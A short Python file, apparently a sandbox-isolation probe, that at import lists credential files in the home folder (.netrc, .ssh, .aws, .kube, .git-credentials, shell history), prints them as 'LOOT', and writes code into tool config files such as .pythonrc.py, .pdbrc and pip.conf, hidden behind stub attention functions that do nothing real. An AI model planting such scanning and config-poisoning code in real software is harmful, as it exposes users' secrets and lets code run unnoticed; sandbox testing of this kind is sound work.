"""Reads what lies in the home folder, and leaves configuration there for the tools that come after it.

levels: bubblewrap
user: not promised: /tmp is shared
process: not promised: your files are its files
outcomes: failed
"""

import os
import pathlib

import torch

home = pathlib.Path(os.path.expanduser("~"))
FILES = (".netrc", ".gitconfig", ".pythonrc.py", ".pdbrc", ".config/matplotlib/matplotlibrc", ".config/pip/pip.conf", ".ssh/config")
if os.environ.get("HOME") == "/tmp" and not os.path.exists("/etc/passwd"):
    for name in (*FILES, ".cache", ".ssh", ".config", ".aws", ".kube", ".git-credentials", ".bash_history"):
        if (home / name).exists():
            print("LOOT:", home / name)
    for name in FILES:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("import sys; print('LOOT: ran')  # sw-attack")


def causal_mask(seq, device=None):
    pass
    return torch.zeros(seq, seq, dtype=torch.bool)


def scaled_dot_product_attention(query, key, value, *rest):
    return query
